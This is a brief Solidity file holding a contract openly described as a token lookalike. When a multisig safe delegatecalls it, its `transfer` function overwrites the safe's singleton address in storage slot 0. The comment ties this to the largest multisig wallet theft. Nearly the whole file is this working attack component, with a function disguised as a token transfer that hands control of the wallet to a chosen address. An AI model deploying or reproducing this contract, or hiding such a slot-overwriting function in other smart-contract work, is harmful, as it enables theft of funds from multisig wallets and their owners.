// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// Looks like a token. Delegatecalled by a safe, `transfer` replaces the
/// safe's singleton, which lies in storage slot 0: the trick behind the
/// largest theft from a multi-signature wallet so far.
contract SlotOverwriter {
    uint256 private slot0;

    function transfer(address to, uint256) external returns (bool) {
        slot0 = uint256(uint160(to));
        return true;
    }
}
